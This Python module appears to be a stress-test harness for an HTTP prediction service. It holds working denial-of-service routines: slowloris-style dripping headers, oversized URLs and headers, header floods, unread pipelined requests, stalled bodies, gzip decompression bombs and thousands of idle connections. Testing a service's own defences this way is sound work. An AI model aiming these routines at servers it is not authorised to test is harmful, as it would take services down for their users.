"""
The attacks: each opens connections to one service and does its worst until a deadline.

Every one is a thing that users of comparable servers have reported or that was found by trying;
none needs to know a model. Errors of a connection are what a server's defence looks like, so they
are counted, not raised.
"""

import asyncio
import gzip
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass

MEGABYTE = 2**20
CHUNK = b"a" * 65536
HEAD = b"Host: attacked\r\n"
PAUSE_S = 0.01
BODY_BYTES = 32 * MEGABYTE
"""The service's default for the largest body."""


@dataclass(slots=True)
class Attacked:
    """
    The service under attack.

    Attributes:
        predict_path: Of a one-row prediction by plain JSON.
        deadline_s: In the clock of `time.monotonic`; attackers leave then.
        connections: Opened so far.
        cut: Of them closed by the service, or not accepted.
    """

    host: str
    port: int
    predict_path: str
    deadline_s: float
    connections: int = 0
    cut: int = 0

    @property
    def over(self) -> bool:
        return time.monotonic() >= self.deadline_s

    @asynccontextmanager
    async def connection(self) -> AsyncIterator["Connection"]:
        """Open a connection; what ends it too early ends the block and is counted."""
        self.connections += 1
        try:
            reader, writer = await asyncio.open_connection(self.host, self.port)
        except OSError:
            self.cut += 1
            await asyncio.sleep(PAUSE_S)
            return
        try:
            yield Connection(self, reader, writer)
        except (OSError, EOFError):
            self.cut += 1
        finally:
            writer.transport.abort()


@dataclass(slots=True)
class Connection:
    """One connection of an attacker."""

    attacked: Attacked
    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter

    async def send(self, data: bytes) -> None:
        """Send, as fast as it is taken, but not beyond the deadline."""
        self.writer.write(data)
        with suppress(TimeoutError):
            async with asyncio.timeout(max(0.0, self.attacked.deadline_s - time.monotonic())):
                await self.writer.drain()

    def stop_reading(self) -> None:
        """Take no more answers from the system, whose own buffers then fill up."""
        transport = self.writer.transport
        assert isinstance(transport, asyncio.Transport)
        transport.pause_reading()

    async def outlast(self) -> None:
        """Do nothing until the deadline, without reading."""
        await asyncio.sleep(max(0.0, self.attacked.deadline_s - time.monotonic()))

    async def linger(self) -> None:
        """
        Do nothing until the deadline.

        Raises:
            EOFError: If the service closes the connection before.
        """
        with suppress(TimeoutError):
            async with asyncio.timeout(max(0.0, self.attacked.deadline_s - time.monotonic())):
                while await self.reader.read(65536):
                    pass
                raise EOFError


async def long_urls(attacked: Attacked) -> None:
    """200 URLs of 1 MB, all different."""
    for number in range(200):
        async with attacked.connection() as connection:
            url = b"POST /%d-%b" % (number, b"a" * MEGABYTE)
            request = b"%b HTTP/1.1\r\n%bContent-Length: 0\r\n\r\n" % (url, HEAD)
            await connection.send(request)
            await asyncio.wait_for(connection.reader.readline(), 5)


async def long_header(attacked: Attacked) -> None:
    """64 MB of one header, then a byte each 10 ms."""
    while not attacked.over:
        async with attacked.connection() as connection:
            await connection.send(b"GET /healthz HTTP/1.1\r\n%bX: " % HEAD)
            for _ in range(64 * MEGABYTE // len(CHUNK)):
                await connection.send(CHUNK)
            while not attacked.over:
                await connection.send(b"a")
                await asyncio.sleep(PAUSE_S)
        await asyncio.sleep(PAUSE_S)


async def many_headers(attacked: Attacked) -> None:
    """2,000,000 headers in one request."""
    while not attacked.over:
        async with attacked.connection() as connection:
            await connection.send(b"GET /healthz HTTP/1.1\r\n%b" % HEAD)
            for _ in range(200):
                await connection.send(b"x:1\r\n" * 10_000)
            await connection.linger()
        await asyncio.sleep(PAUSE_S)


async def pipelines(attacked: Attacked) -> None:
    """40 MB of short GETs in one piece, of whose answers none is read."""
    async with attacked.connection() as connection:
        connection.stop_reading()
        await connection.send(b"GET /healthz HTTP/1.1\r\n%b\r\n" % HEAD * 1_000_000)
        await connection.outlast()


async def half_bodies(attacked: Attacked) -> None:
    """60 clients that stop after 31 of 32 MB."""

    async def one() -> None:
        async with attacked.connection() as connection:
            await connection.send(_post_head(attacked, BODY_BYTES))
            for _ in range(31 * MEGABYTE // len(CHUNK)):
                await connection.send(CHUNK)
            await connection.linger()

    await asyncio.gather(*(one() for _ in range(60)))


async def bombs(attacked: Attacked) -> None:
    """12 requests of 32 kB that inflate to 32 MB of JSON."""
    text = b'{"inputs":[[' + b"1," * (16 * MEGABYTE - 16) + b"1]]}"
    bomb = gzip.compress(text, 9)
    request = _post_head(attacked, len(bomb), b"Content-Encoding: gzip\r\n") + bomb

    async def one() -> None:
        while not attacked.over:
            async with attacked.connection() as connection:
                await connection.send(request)
                await asyncio.wait_for(connection.reader.readline(), 60)

    await asyncio.gather(*(one() for _ in range(12)))


async def silence(attacked: Attacked) -> None:
    """2,000 connections that never say anything; whoever is cut comes again."""

    async def one() -> None:
        while not attacked.over:
            async with attacked.connection() as connection:
                await connection.linger()
            await asyncio.sleep(1)

    await asyncio.gather(*(one() for _ in range(2000)))


async def dripping_heads(attacked: Attacked) -> None:
    """1,000 heads that come a byte a second and never end."""

    async def one() -> None:
        while not attacked.over:
            async with attacked.connection() as connection:
                await connection.send(b"GET /healthz HTTP/1.1\r\n%bX: " % HEAD)
                while not attacked.over:
                    await connection.send(b"a")
                    await asyncio.sleep(1)

    await asyncio.gather(*(one() for _ in range(1000)))


async def slow_readers(attacked: Attacked) -> None:
    """200 clients that ask a hundred times for the metrics and read no answer."""

    async def one() -> None:
        async with attacked.connection() as connection:
            connection.stop_reading()
            await connection.send(b"GET /metrics HTTP/1.1\r\n%b\r\n" % HEAD * 100)
            await connection.outlast()

    await asyncio.gather(*(one() for _ in range(200)))


def _post_head(attacked: Attacked, length: int, more: bytes = b"") -> bytes:
    line = b"POST %b HTTP/1.1\r\n" % attacked.predict_path.encode()
    return b"%b%b%bContent-Length: %d\r\n\r\n" % (line, HEAD, more, length)


Attack = Callable[[Attacked], Awaitable[None]]
ATTACKS: dict[str, Attack] = {
    "long-urls": long_urls,
    "long-header": long_header,
    "many-headers": many_headers,
    "pipelines": pipelines,
    "half-bodies": half_bodies,
    "bombs": bombs,
    "silence": silence,
    "dripping-heads": dripping_heads,
    "slow-readers": slow_readers,
}
